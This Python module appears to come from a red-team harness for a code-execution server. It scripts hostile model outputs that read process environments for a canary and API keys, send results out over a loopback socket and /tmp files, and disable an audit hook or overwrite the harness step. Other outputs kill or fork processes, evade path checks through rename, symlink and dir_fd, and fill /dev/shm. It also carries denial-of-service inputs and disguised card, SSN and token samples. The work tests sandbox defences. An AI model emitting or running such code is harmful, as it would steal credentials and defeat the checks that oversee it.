"""The hostile candidates of the red-team run, as a scripted-engine script.

The "model" of a red-team server is the scripted engine (server/engines/scripted.py):
each attack's prompt carries a tag (``rt-<attack>``) and the script maps that tag to the
candidate an attacker would want the model to write. The script is data built here once,
so the same file drives a server that ``bench/redteam.py --spawn`` starts and one an
operator starts by hand (``bench/redteam.py --write-script FILE``).

Every candidate reports back through three channels, because a fix may close one and
leave another: the return value of ``f()`` (the test ``assert f() == 1`` puts it in the
evidence), a file under /tmp and a TCP connection to the run's loopback listener. Files
and the listener are named by the run id, so the runner checks only its own traces.
The candidates look for the run's canary (an environment variable of the spawned
server) rather than dumping whole files, so a report never carries another process's
secrets.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

CANARY_VAR = "BON_REDTEAM_CANARY"


@dataclass(frozen=True)
class ScriptParams:
    """What the hostile candidates need to know about the run."""

    run_id: str
    canary: str
    port: int

    @property
    def prefix(self) -> str:
        """Path prefix of every file a candidate tries to leave behind in /tmp."""
        return f"/tmp/bon_redteam_{self.run_id}_"

    def as_dict(self) -> dict[str, Any]:
        return {"run_id": self.run_id, "canary": self.canary, "port": self.port}


# Shared by every candidate: send what it found on the side channels. Each step is
# guarded, so a channel that is closed does not stop the others.
_EXFIL = """
import os as _os
def _rt_out(name, payload):
    try:
        with open({prefix!r} + name + '.out', 'w') as fh:
            fh.write(payload)
    except BaseException:
        pass
    try:
        import socket
        s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
        s.sendall((name + ' ' + payload).encode()[:4000])
        s.close()
    except BaseException:
        pass
"""

_BYPASS = """
try:
    import __main__
    __main__._BLOCKED = ()
except BaseException:
    pass
"""


def _fence(body: str) -> str:
    return "```python\n" + body.strip("\n") + "\n```"


def _candidate(p: ScriptParams, name: str, body: str, *, bypass: bool = True) -> str:
    """A fenced candidate: exfil helpers, the optional audit-hook bypass, the attack,
    and `f()` returning what the attack saw (its result string, ``_R``)."""
    code = _EXFIL.format(prefix=p.prefix, port=p.port)
    if bypass:
        code += _BYPASS
    code += body.format(prefix=p.prefix, port=p.port, canary=p.canary, var=CANARY_VAR)
    code += f"\n_rt_out({name!r}, _R)\ndef f():\n    return _R\n"
    return _fence(code)


_ENVIRON = """
def _rt():
    # The parent's keys, or any process's copy of this run's canary.
    pids = [str(_os.getppid())] + [p for p in _os.listdir('/proc') if p.isdigit()]
    for i, p in enumerate(pids):
        needles = (b'{var}=', b'BON_API_KEYS=') if i == 0 else (b'{var}=',)
        try:
            data = open('/proc/%s/environ' % p, 'rb').read()
        except BaseException:
            continue
        for item in data.split(bytes(1)):
            if item.startswith(needles):
                return 'RT' + item.hex()
    return 'RTnone'
try:
    _R = _rt()
except BaseException as e:
    _R = 'RTerr-' + type(e).__name__
"""

_TCP = """
try:
    import socket
    _s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
    _s.sendall(b'tcp connected')
    _s.close()
    _R = 'RTtcp-ok'
except BaseException as e:
    _R = 'RTtcp-' + type(e).__name__
"""

_SUBPROCESS = """
try:
    import subprocess
    subprocess.run(['/bin/sh', '-c', 'echo RTSUB > {prefix}subprocess'], timeout=2)
    _R = subprocess.run(['/bin/echo', 'RTSUB' + str(6 * 7)], capture_output=True,
                        timeout=2).stdout.decode().strip()
except BaseException as e:
    _R = 'RTsub-' + type(e).__name__
"""

_CTYPES = """
try:
    import ctypes
    _libc = ctypes.CDLL(None)
    _fd = _libc.open(b'{prefix}ctypes', 0o101, 0o644)
    _libc.write(_fd, b'x', 1)
    _libc.close(_fd)
    _R = 'RTctypes-' + str(_fd >= 0)
except BaseException as e:
    _R = 'RTctypes-' + type(e).__name__
"""

# Kills only processes carrying this run's canary (the spawned server) and the
# candidate's own parent (part of the server under attack, whatever the mode).
_KILL = """
import signal
def _rt():
    done = []
    me = _os.getpid()
    pids = []
    for p in _os.listdir('/proc'):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            env = open('/proc/%s/environ' % p, 'rb').read().split(bytes(1))
        except BaseException:
            continue
        if b'{var}={canary}' in env:
            pids.append(int(p))
    if _os.getppid() > 1:
        pids.append(_os.getppid())
    for pid in pids:
        try:
            _os.kill(pid, signal.SIGKILL)
            done.append(str(pid))
        except BaseException as e:
            done.append(type(e).__name__)
    return 'RTkill-' + ','.join(done)
try:
    _R = _rt()
except BaseException as e:
    _R = 'RTkill-' + type(e).__name__
"""

_DAEMON = """
import time
def _rt():
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                time.sleep(4)
                with open('{prefix}daemon', 'w') as fh:
                    fh.write('alive')
                _rt_out('daemon', 'alive')
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    return 'RTforked'
try:
    _R = _rt()
except BaseException as e:
    _R = 'RTfork-' + type(e).__name__
"""

# No bypass: these slip past an audit hook that checks only a call's first path.
_WRITE_OUTSIDE = """
def _try(name, fn):
    try:
        fn()
        return name + ':ok'
    except BaseException as e:
        return name + ':' + type(e).__name__
def _rename():
    with open('rt_local', 'w') as fh:
        fh.write('x')
    _os.rename('rt_local', '{prefix}rename')
def _symlink():
    # The source is inside the run's directory: a check of the first path passes.
    _os.symlink('rt_local', '{prefix}symlink')
def _fifo():
    _os.mkfifo('{prefix}fifo')
def _dirfd():
    d = _os.open('/tmp', _os.O_RDONLY)
    fd = _os.open('{prefix}dirfd'.rsplit('/', 1)[1], _os.O_CREAT | _os.O_WRONLY, 0o644,
                  dir_fd=d)
    _os.write(fd, b'x')
    _os.close(fd)
_R = 'RT' + ' '.join(_try(n, fn) for n, fn in
                     (('rename', _rename), ('symlink', _symlink), ('fifo', _fifo),
                      ('dirfd', _dirfd)))
"""

# Bounded on purpose: 32 MiB is enough to show the write lands in RAM-backed
# /dev/shm and outlives the run, without filling a shared machine.
_SHM = """
import signal
def _rt():
    # Past a per-file size limit a write fails instead of killing the run.
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    # Opened relative to a directory descriptor: an audit hook that checks the path
    # argument sees only the bare name.
    d = _os.open('/dev/shm', _os.O_RDONLY)
    fd = _os.open('{shm}'.rsplit('/', 1)[1], _os.O_CREAT | _os.O_WRONLY, 0o644, dir_fd=d)
    n = 0
    for _ in range(512):
        if _os.write(fd, bytes(1 << 16)) <= 0:
            break
        n += 1
    _os.close(fd)
    return 'RTshm-%dKiB' % (64 * n)
try:
    _R = _rt()
except BaseException as e:
    _R = 'RTshm-' + type(e).__name__
"""

_HARNESS = """
try:
    import __main__
    __main__._run_step = lambda s, ns: None
except BaseException:
    pass
_R = 'RTwrong'
"""


def shm_path(p: ScriptParams) -> str:
    return f"/dev/shm/bon_redteam_{p.run_id}_shm"


def candidates(p: ScriptParams) -> dict[str, str]:
    """Tag -> the hostile candidate's text."""
    c = {
        "environ": _candidate(p, "environ", _ENVIRON),
        "tcp": _candidate(p, "tcp", _TCP),
        "subprocess": _candidate(p, "subprocess", _SUBPROCESS),
        "ctypes": _candidate(p, "ctypes", _CTYPES),
        "kill": _candidate(p, "kill", _KILL),
        "daemon": _candidate(p, "daemon", _DAEMON),
        "write-outside": _candidate(p, "write-outside", _WRITE_OUTSIDE, bypass=False),
        "shm": _candidate(p, "shm", _SHM.replace("{shm}", shm_path(p))),
        "harness": _fence(_HARNESS + "\ndef f():\n    return 0\n"),
        "plain-code": _fence("def f():\n    return 1\n"),
        "class-bases": _fence("class A(" + "+".join(["a"] * 600) + "):\n    pass\n"),
        "deep-json": "[" * 20000 + "]" * 20000,
        "deep-latex": "The answer is $\\boxed{" + "{" * 5000 + "2" + "}" * 5000 + "}$.",
        "deep-code": _fence("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"),
        "schema-redos": '{"s": "' + "a" * 25 + '!"}',
        "image-gate": "![](http://x/" + "?=" * 2040,
        # Ten slow readers: a large group, n=64 x 2048 words.
        "stream-big": " ".join(["word"] * 2000),
        "sleepers": _fence("def f():\n    return 1\n"),
    }
    return c


# Candidate-side gate evasions: (tag, text). The plain form comes first in each family
# so the runner can check that the gate catches it at all.
_CARD = "4111111111111111"
_SSN = "536228714"
_IBAN = "de89370400440532013000"
_KEY = "ghp_Zq8VnR2kLm4TxW7yBd1Hs9Fc3Jp6Ga5QeUo0"
# tag -> (candidate text, the item as lower-case letters and digits only)
PII_LEAKS: dict[str, tuple[str, str]] = {
    "card-plain": ("Your card number is 4111 1111 1111 1111.", _CARD),
    "card-dots": ("Your card number is 4111.1111.1111.1111.", _CARD),
    "card-underscores": ("Your card number is 4111_1111_1111_1111.", _CARD),
    "card-double-spaces": ("Your card number is 4111  1111  1111  1111.", _CARD),
    "card-line-break": ("Your card number is 4111 1111\n1111 1111.", _CARD),
    "ssn-plain": ("Her social security number is 536-22-8714.", _SSN),
    "ssn-en-dash": ("Her social security number is 536\u201322\u20138714.", _SSN),
    "iban-plain": ("Send it to IBAN DE89 3704 0044 0532 0130 00 today.", _IBAN),
    "iban-lower": ("Send it to IBAN de89 3704 0044 0532 0130 00 today.", _IBAN),
    "key-plain": (f"Use the token {_KEY} for the API.", _KEY.replace("_", "").lower()),
    "key-zwsp": (
        f"Use the token {_KEY[:18]}\u200b{_KEY[18:]} for the API.",
        _KEY.replace("_", "").lower(),
    ),
}

_SIMPLE = "The answer is 4."


def build_script(p: ScriptParams) -> dict[str, Any]:
    """The scripted-engine script (rules first-match by tag); the run's parameters ride
    along under ``redteam`` (the engine ignores unknown keys)."""
    rules: list[dict[str, Any]] = []
    for tag, text in candidates(p).items():
        if tag in ("sleepers", "stream-big"):
            # Four distinct candidates, so a group is not deduplicated into one run.
            cands = [
                {
                    "text": _fence(f"def f():\n    return 1  # {i}\n")
                    if tag == "sleepers"
                    else f"{text} {i}"
                }
                for i in range(4)
            ]
        else:
            cands = [{"text": text}]
        rules.append({"match": f"[rt-{tag}]", "candidates": cands})
    for tag, (text, _) in PII_LEAKS.items():
        rules.append({"match": f"[rt-pii-{tag}]", "candidates": [{"text": text}]})
    rules.append({"candidates": [{"text": _SIMPLE}]})
    return {"delay_s": 0.0, "rules": rules, "redteam": p.as_dict()}
